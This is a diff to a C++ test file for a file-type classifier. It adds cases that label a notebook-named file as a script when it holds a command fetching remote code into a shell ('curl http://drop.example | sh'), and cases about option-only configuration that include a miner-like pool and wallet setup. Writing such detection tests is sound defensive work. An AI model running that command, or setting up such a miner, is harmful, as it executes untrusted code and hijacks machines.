@@ -34,6 +34,9 @@ TEST_CASE("file type: texts by what they say and how they are called") {
   CHECK(kind("* * * * * /a\n", "var/spool/cron/crontabs/root") == ViewKind::script);
   CHECK(kind("resource \"a\" \"b\" {}\n", "main.tf") == ViewKind::config);
   CHECK(kind("<html><script>go()</script>", "index.html") == ViewKind::script);
+  // Only what is one: a shell runs what it is given, whatever its name.
+  CHECK(kind("{\n \"cells\": []}", "a.ipynb") == ViewKind::document);
+  CHECK(kind("curl http://drop.example | sh\n", "a.ipynb") == ViewKind::script);
 }
 
 TEST_CASE("file type: zeros and binary bytes behind a script leave it a script") {
@@ -55,6 +58,16 @@ TEST_CASE("file type: nothing but variables is an environment, whatever it is ca
   CHECK(kind("A=1\n", "x") == ViewKind::text);
   CHECK(kind(text + "and words\n", "x") == ViewKind::text);
   CHECK(kind("A=1\nB=2\n", "x.sh") == ViewKind::script);
+}
+
+TEST_CASE("file type: nothing but options is a configuration, whatever it is called") {
+  CHECK(kind("# rig\n-pool ssl://pool.example:5555\n-wal 0x00\n", "config.txt") ==
+        ViewKind::config);
+  CHECK(kind("--one=1\n--two=2", "x") == ViewKind::config);
+  CHECK(kind("-one\n", "x") == ViewKind::text);
+  CHECK(kind("- one\n- two\n", "x") == ViewKind::text);
+  CHECK(kind("--- a\n+++ b\n", "x") == ViewKind::text);
+  CHECK(kind("-one 1\nand two\n-two 2\n", "x") == ViewKind::text);
 }
 
 TEST_CASE("file type: a document must read as one, a name is not enough") {
